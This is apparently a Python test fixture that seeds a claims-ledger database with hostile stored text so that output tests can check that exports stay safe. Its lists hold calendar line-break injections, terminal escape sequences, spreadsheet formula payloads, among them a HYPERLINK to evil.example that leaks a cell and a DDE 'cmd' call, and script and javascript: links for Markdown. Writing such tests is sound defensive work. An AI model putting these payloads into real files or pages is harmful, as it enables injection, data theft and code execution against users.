"""Hostile stored text, as scraped pages and imports bring it: one ledger full of it, shared by the
output tests. It is written by SQL, as a ledger filled before input was checked (or by another
tool) holds it: every output must be safe whatever the input rules let in."""

from __future__ import annotations

from pathlib import Path

from sqlalchemy import insert, update

from ledger.store.engine import open_ledger
from ledger.store.models import Claim, Reviewer, Source, Speaker
from ledger.store.models.core import ClaimTag
from ledger.store.models.review import Resolution

# Each would forge calendar events if written raw (CRLF, a bare CR, a bare LF).
CAL_BREAKS = [
    "https://example.org/a\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:forged-1\r\nSUMMARY:forged\r\nATTENDEE:mailto:victim@example.org",
    "https://example.org/b\rEND:VEVENT\rBEGIN:VEVENT\rUID:forged-2\rATTENDEE:mailto:victim@example.org",
    "https://example.org/c\nEND:VEVENT\nBEGIN:VEVENT\nUID:forged-3\nATTENDEE:mailto:victim@example.org",
]
# What a terminal acts on: retitle the window (OSC), clear the screen (CSI), bell, the 8-bit CSI.
TERMINAL = [
    "\x1b]0;pwned\x07",
    "\x1b[2J\x1b[H",
    "\x9b2J",
    "\x07bell",
    "\x1bP+q\x1b\\",
    "back\rover\x08written",
    "\u202etxt.exe",
    "\x1b[31mred",
]
# What a spreadsheet runs.
FORMULAS = ["=HYPERLINK(\"http://evil.example/\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "'=1"]
# What a Markdown renderer would turn into HTML or a link.
MARKUP = [
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "![x](javascript:alert(2))",
    "<javascript:alert(3)>",
    "*bold* _em_ `code` | pipe",
]

TEXTS = CAL_BREAKS + TERMINAL + FORMULAS + MARKUP


def fill(cli, db_url: str, folder: Path, texts: list[str] = TEXTS, *, resolve: bool = False) -> list[int]:
    """One claim per hostile text, which is also its speaker's name, quote, tag, hedge words, source
    URL, title and publisher, and a reviewer's name; with ``resolve`` that reviewer resolved it
    (true, on time) with the text as the note. Returns the claim ids, in the order of ``texts``."""
    rows = ["speaker,text,said,deadline,probability,source_url,quote,tags,outcome,occurred,reviewer,evidence,note"]
    for n, _ in enumerate(texts):
        verdict = f"true,2021-01-01,Reviewer {n},https://example.org/e{n},n" if resolve else ",,,,"
        rows.append(f"Speaker {n},claim {n},2020-01-01,2021-06-30,0.7,https://example.org/{n},q,tag{n},{verdict}")
    seed = folder / "plain.csv"
    seed.write_text("\n".join(rows) + "\n", encoding="utf-8")
    assert cli("import", seed).status == 0
    ids = [c["id"] for c in sorted(cli("list", "--json").json, key=lambda c: int(c["text"].split()[1]))]
    ledger = open_ledger(db_url)
    with ledger.write() as s:
        for n, (claim_id, text) in enumerate(zip(ids, texts)):
            s.execute(update(Claim).where(Claim.id == claim_id).values(
                text=text, quote=text, deadline_text=text, confidence=text, logged_by=text))
            s.execute(update(Speaker).where(Speaker.name == f"Speaker {n}").values(name=text))
            s.execute(update(Source).where(Source.url == f"https://example.org/{n}").values(url=text, title=text, publisher=text))
            s.execute(update(ClaimTag).where(ClaimTag.claim_id == claim_id).values(tag=text[:100]))
            s.execute(insert(Reviewer).values(name=text, name_key=f"reviewer {n}", email=f"r{n}@example.org"))
            s.execute(update(Resolution).where(Resolution.claim_id == claim_id).values(note=text, reviewer=text))
    ledger.dispose()
    return ids
